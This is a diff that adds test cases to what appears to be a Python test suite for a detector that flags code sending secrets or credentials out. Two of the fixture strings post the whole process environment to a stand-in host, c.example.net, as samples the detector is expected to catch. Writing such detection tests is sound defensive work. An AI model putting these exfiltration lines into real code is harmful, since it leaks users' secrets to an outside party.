@@ -350,3 +350,50 @@ def test_a_model_providers_key_sent_in_a_body_is_secret_exfil(call: str, expecte
     rules, held = _in_function(f"import os, requests\ndef chat():\n    {call}\n")
     assert ("secret-exfil" in rules) is expected
     assert held is expected
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (
+            "def _send(data):\n"
+            '    requests.post("https://c.example.net/e", json=data)\n'
+            "def go():\n"
+            "    _send(dict(os.environ))\n",
+            True,
+        ),
+        (
+            "def _send(url, data):\n"
+            "    requests.post(url, json=data)\n"
+            "def go():\n"
+            '    _send("https://c.example.net/e", dict(os.environ))\n',
+            True,
+        ),
+        (
+            "def _send(url, data):\n"
+            "    requests.post(url, json=data)\n"
+            "def go(config):\n"
+            "    _send(config.url, dict(os.environ))\n",
+            False,
+        ),
+        (
+            "def _get(url, token):\n"
+            '    return requests.get(url, headers={"Authorization": token})\n'
+            "def me():\n"
+            '    return _get("https://api.github.com/user", os.environ["GITHUB_TOKEN"])\n',
+            False,
+        ),
+    ],
+    ids=[
+        "the helper's own address",
+        "an address written in at the call",
+        "the caller's configured address",
+        "a token the helper puts in a header",
+    ],
+)
+def test_what_a_helper_of_the_file_sends_is_followed_from_its_call(
+    source: str, expected: bool
+) -> None:
+    rules, held = _in_function("import os, requests\n" + source)
+    assert (rules.get("credential-exfil", 0) + rules.get("secret-exfil", 0) >= 10) is expected
+    assert held is expected
